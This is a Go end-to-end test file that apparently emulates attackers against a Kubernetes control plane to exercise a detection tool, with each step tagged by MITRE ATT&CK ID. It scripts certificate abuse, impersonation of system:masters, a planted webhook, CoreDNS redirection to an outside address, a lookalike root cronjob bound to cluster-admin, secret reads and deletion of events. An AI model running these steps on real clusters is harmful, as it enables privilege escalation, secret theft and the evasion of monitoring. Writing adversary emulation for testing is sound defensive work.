package siege

import (
	"crypto/x509/pkix"
	"encoding/base64"
	"fmt"
	"net/http"

	"github.com/scantling/scantling/test/e2e/plane"
)

type request = plane.Request

// certificate: an operator's stolen token makes a credential that outlives it.
// The API server itself refuses system:masters.
func certificate(p *script) {
	const name = "pavel-laptop"
	p.step("asks for a certificate of system:masters", "T1098 T1078").want(403, p.create(grouped(certs, "", "certificatesigningrequests"), signing(name, askFor(p, pkix.Name{CommonName: "backup", Organization: []string{"system:masters"}}).csr, clientSigner)).Code)
	wanted := askFor(p, pkix.Name{CommonName: "system:kube-controller-manager"})
	answer := p.step("asks for one of the controller manager", "T1098 T1078 T1036").answered(201, p.create(grouped(certs, "", "certificatesigningrequests"), signing(name, wanted.csr, clientSigner)))
	var csr object
	p.took(answer.Decode(&csr))
	p.step("approves it", "T1098 T1078").answered(200, p.approve(csr))
	var signed struct{ Status struct{ Certificate string } }
	p.until("the signer", func() bool {
		err := p.siege.admin.Do(p.ctx, request{Path: grouped(certs, "", "certificatesigningrequests", name)}).Decode(&signed)
		return err == nil && signed.Status.Certificate != ""
	})
	p.step("fetches it", "T1098 T1552").want(200, p.get(grouped(certs, "", "certificatesigningrequests", name)).Code)
	p.header = http.Header{"Impersonate-User": {"backup"}, "Impersonate-Group": {"system:masters"}}
	p.step("acts as system:masters meanwhile", "T1078 T1550 "+secretRead).want(200, p.get(core("payments", "secrets", "database")).Code)
	text, err := base64.StdEncoding.DecodeString(signed.Status.Certificate)
	p.took(err)
	cert, err := held(text, wanted.key)
	p.took(err)
	client, err := p.siege.plane.Holder(cert)
	p.took(err)
	if p.err != nil {
		return
	}
	p.become(identity{"system:kube-controller-manager", curl, "127.0.113.40"}, client)
	p.step("reads secrets with the certificate", secretRead+" T1078 T1550").want(200, p.get(core("", "secrets")+"?limit=500").Code)
}

const clientSigner = "kubernetes.io/kube-apiserver-client"

func signing(name string, csr []byte, signer string) object {
	body := named(certs, "CertificateSigningRequest", "", name, nil)
	usages := []string{"digital signature", "client auth"}
	if signer != clientSigner {
		usages[1] = "server auth"
	}
	body["spec"] = object{"request": csr, "signerName": signer, "usages": usages}
	return body
}

// approve approves a certificate signing request that was read.
func (p *script) approve(csr object) plane.Answer {
	meta, ok := csr["metadata"].(object)
	if !ok {
		return plane.Answer{Err: fmt.Errorf("no request to approve")}
	}
	csr["status"] = object{"conditions": []any{object{"type": "Approved", "status": "True", "reason": "KubectlApprove", "message": "approved"}}}
	return p.update(grouped(certs, "", "certificatesigningrequests", meta["name"].(string), "approval"), csr)
}

// plantedWebhook: the GitOps controller's token was found in a backup. A
// webhook on every pod sees what is created; then the guards go.
func plantedWebhook(p *script) {
	p.step("looks at the webhooks that are there", discovery).want(200, p.get(grouped(hooks, "", "mutatingwebhookconfigurations")).Code)
	hook := webhook("MutatingWebhookConfiguration", "sidecar-defaults", "https://127.0.0.1:1/mutate", "pods")
	p.step("plants a webhook on all pods", impair+" T1546 T1552 T1098").answered(201, p.create(grouped(hooks, "", "mutatingwebhookconfigurations"), hook))
	p.step("lets it see secrets too", impair+" T1546 T1552").answered(200, p.do(merge(grouped(hooks, "", "mutatingwebhookconfigurations", "sidecar-defaults"), webhook("MutatingWebhookConfiguration", "sidecar-defaults", "https://127.0.0.1:1/mutate", "secrets"))))
	p.step("deletes the quota of data", impair).want(200, p.remove(core("data", "resourcequotas", "pods")).Code)
	p.step("turns the cluster's names elsewhere", "T1098 T1557 T1562 T1565").answered(200, p.do(merge(core("kube-system", "configmaps", "coredns"), object{"data": object{"Corefile": ".:53 { forward . 203.0.113.45 }"}})))
	p.step("deletes the events of payments", cleaning).want(200, p.remove(core("payments", "events")).Code)
}

// lookalikeJob: a change that nobody reviewed reaches the GitOps controller,
// which brings a job among the system's own pods, again and again.
func lookalikeJob(p *script) {
	const name = "kube-proxy-cleaner"
	p.made("kube-system", name)
	p.step("looks at the pods of the system", discovery).want(200, p.get(core("kube-system", "pods")).Code)
	p.step("makes an account with a name of the system", "T1136 T1098 T1036.010").want(201, p.create(core("kube-system", "serviceaccounts"), named("v1", "ServiceAccount", "kube-system", name, nil)).Code)
	spec := hostPod("kube-system", name)["spec"].(object)
	spec["serviceAccountName"] = name
	p.step("schedules a job with the node's root", "T1053.007 T1036.005 "+escape).answered(201, p.create(grouped(batch, "kube-system", "cronjobs"), clockwork("kube-system", name, "* * * * *", spec)))
	p.step("gives the account the cluster", roleGrant).answered(201, p.create(grouped(rbac, "", "clusterrolebindings"), binding("", "ClusterRole", "cluster-admin", "kube-system/"+name, "system:"+name)))
}

// addedContainer: a developer's stolen token. The pods of payments have no
// shell, so one is brought.
func addedContainer(p *script) {
	p.step("lists pods", discovery).want(200, p.get(core("payments", "pods")+"?limit=500").Code)
	victim := p.victim("payments", "ledger")
	p.step("adds a container to a running pod", execution+" "+deployment).answered(200, p.patch(core("payments", "pods", victim, "ephemeralcontainers"), tools("debugger-x2b9q", "docker.io/nicolaka/netshoot:v0.13")))
	p.step("attaches to it", execution).want(101, p.stream(http.MethodGet, core("payments", "pods", victim, "attach")+"?container=main&stdin=true&stdout=true&tty=true"))
	p.step("reads the database's secret", secretRead).want(200, p.get(core("payments", "secrets", "database")).Code)
	p.step("forwards the database's port", "T1133 T1090 T1572").want(101, p.stream(http.MethodGet, core("payments", "pods", victim, "portforward")+"?ports=5432"))
}

// tools is the patch of kubectl debug.
func tools(name, image string) object {
	return object{"spec": object{"ephemeralContainers": []any{object{
		"name": name, "image": image, "stdin": true, "tty": true, "targetContainerName": "main", "terminationMessagePolicy": "File",
	}}}}
}

// enumeration: a token may get secrets and not list them. Their names are
// found in ConfigMaps and by guessing.
func enumeration(p *script) {
	p.step("looks for what the API has", discovery).want(200, p.get("/apis").Code)
	for _, ns := range []string{"data", "payments", "orders"} {
		p.step("asks what it may do in "+ns, discovery).want(201, p.create(grouped(authz, "", "selfsubjectrulesreviews"), rulesReview(ns)).Code)
	}
	p.step("lists namespaces", discovery).want(200, p.get(core("", "namespaces")).Code)
	p.step("lists ConfigMaps of all", discovery+" "+secretRead).want(200, p.get(core("", "configmaps")).Code)
	p.pause /= 10
	for _, ns := range namespaces() {
		for _, name := range []string{"database", "session-key", "admin-password"} {
			code := http.StatusOK
			if name == "admin-password" {
				code = http.StatusNotFound
			}
			p.step("tries a secret by name", secretRead).want(code, p.get(core(ns, "secrets", name)).Code)
		}
	}
}
